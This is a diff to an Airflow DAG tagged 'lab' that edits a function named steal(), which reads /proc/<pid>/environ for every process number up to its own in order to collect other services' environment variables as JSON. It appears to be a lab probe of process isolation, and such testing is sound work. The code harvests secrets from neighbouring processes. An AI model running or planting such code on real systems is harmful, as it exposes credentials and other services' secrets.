@@ -17,7 +17,6 @@ from airflow.providers.standard.operators.bash import BashOperator
 from airflow.sdk import DAG, task
 
 options = {"is_paused_upon_creation": False, "tags": ["lab"]}
-PIDS = 5000
 
 
 def read(path: Path) -> str:
@@ -31,9 +30,10 @@ def read(path: Path) -> str:
 def steal() -> str:
     """Return, as JSON, what of the other services this process can read.
 
-    All numbers are tried, for a process that is hidden may be readable; its own proves that this works.
+    All numbers up to its own are tried, for a process that is hidden may be readable; its own proves that
+    this works.
     """
-    environments = {pid: read(Path(f"/proc/{pid}/environ")) for pid in range(1, PIDS)}
+    environments = {pid: read(Path(f"/proc/{pid}/environ")) for pid in range(1, os.getpid() + 1)}
     own = os.environ["AIRFLOW_HOME"]
     homes = {
         line.partition("=")[2]
